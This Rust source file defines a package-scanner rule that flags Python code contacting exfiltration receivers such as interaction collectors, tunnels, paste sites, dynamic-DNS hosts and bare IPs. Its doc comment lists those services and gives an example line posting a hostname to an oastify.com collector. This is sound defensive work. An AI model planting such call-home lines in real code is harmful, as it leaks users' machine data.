use crate::finding::{Finding, Severity};

use crate::rules::helpers::endpoints::{Kind, call_receiver, classify};
use crate::rules::{PackageFacts, Rule, RuleMeta, code_finding, declare_rule, string_finding};

declare_rule! {
    /// URLs of services that exist to receive data from machines one does
    /// not control: out-of-band testing collectors, tunnels, paste and
    /// file-drop sites, dynamic-DNS hosts and bare public IP addresses.
    ///
    /// ## What it finds
    /// Strings (after constant evaluation, so URLs assembled, reversed or
    /// decoded at run time count) that are URLs whose host is
    /// - an out-of-band interaction collector (`*.oastify.com`,
    ///   `*.burpcollaborator.net`, interactsh's `*.oast.*` domains,
    ///   `canarytokens`, `*.m.pipedream.net`, request-bin services,
    ///   `webhook.site`, `dnslog.cn`, `ceye.io`);
    /// - a tunnel endpoint (`<id>.ngrok-free.app`, `<id>.ngrok.io`,
    ///   `<name>.trycloudflare.com`, `serveo.net`, `loca.lt`);
    /// - a raw paste or file-drop (`pastebin.com/raw`, `paste.ee/r`,
    ///   `transfer.sh`, `hastebin`), or a paste-creation API
    ///   (`pastebin.com/api/api_post.php`);
    /// - a dynamic-DNS name (`duckdns.org`, `ddns.net`, `hopto.org`,
    ///   `zapto.org`, `no-ip`);
    /// - a public IPv4 address (`http://203.0.113.7:8080/…`; private,
    ///   loopback and link-local addresses are left to other rules, and
    ///   public DNS resolvers such as `8.8.8.8`, which code connects to
    ///   only to learn its own address, are not receivers),
    ///
    /// in a file that makes network calls. A network call's bare host
    /// arguments count too (`socket.gethostbyname("x.oast.fun")`,
    /// `connect(("203.0.113.7", 4444))`).
    ///
    /// ## Why it matters
    /// Dependency-confusion probes call home to interaction collectors;
    /// stealers post to tunnels and paste sites because they are free,
    /// anonymous and disposable; droppers fetch their second stage from a
    /// bare IP. Libraries talk to their own services by name. A collector
    /// is never a library's endpoint: high, critical when the code runs
    /// without being called (install, start-up, import). The other kinds
    /// are medium in code a user calls, high when merely named in code that
    /// runs by itself, and critical when code that runs by itself actually
    /// calls them: contacting a throwaway receiver unasked is the call-home.
    ///
    /// ## Example
    /// ```python
    /// import os, requests
    /// requests.post("https://a1b2c3.oastify.com/", data=os.uname().nodename)
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1567 (Exfiltration Over Web Service), T1572 (Protocol
    /// Tunneling), T1568.002 (Dynamic Resolution); Alex Birsan,
    /// "Dependency Confusion" (2021).
    pub struct Endpoints {
        id: "AY302",
        slug: "suspicious-endpoint",
        category: Exfiltration,
        severity: Critical,
    }
}
impl Rule for Endpoints {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        for file in facts.python {
            if !file.calls.iter().any(|c| c.is_network()) {
                continue;
            }
            let mut seen = std::collections::BTreeSet::new();
            // What network calls are given, templates included (`"https://"
            // + host + "/?h=" + name`), then every string of the file.
            for call in file.calls.iter().filter(|c| c.is_network()) {
                let Some((kind, host)) = call_receiver(call) else {
                    continue;
                };
                if !seen.insert((host.to_ascii_lowercase(), call.context)) {
                    continue;
                }
                let mut f = code_finding(
                    &Self::META,
                    file,
                    call,
                    format!(
                        "`{}` sends to {} ({host}) {}",
                        call.name,
                        kind.describe(),
                        call.context.describe()
                    ),
                );
                // Contacting a throwaway receiver without being asked (at
                // install, startup or import) is the call-home itself.
                f.severity = if call.context.is_automatic() {
                    Severity::Critical
                } else {
                    grade(kind, false)
                };
                out.push(f);
            }
            for s in &file.strings {
                let Some((kind, host)) = classify(&s.value) else {
                    continue;
                };
                if !seen.insert((host.to_ascii_lowercase(), s.context)) {
                    continue;
                }
                let mut f = string_finding(
                    &Self::META,
                    file,
                    s,
                    format!(
                        "refers to {} ({host}) {}",
                        kind.describe(),
                        s.context.describe()
                    ),
                );
                f.severity = grade(kind, s.context.is_automatic());
                out.push(f);
            }
        }
    }
}

fn grade(kind: Kind, automatic: bool) -> Severity {
    match (kind, automatic) {
        (Kind::Collector, true) => Severity::Critical,
        (Kind::Collector, false) | (_, true) => Severity::High,
        (_, false) => Severity::Medium,
    }
}
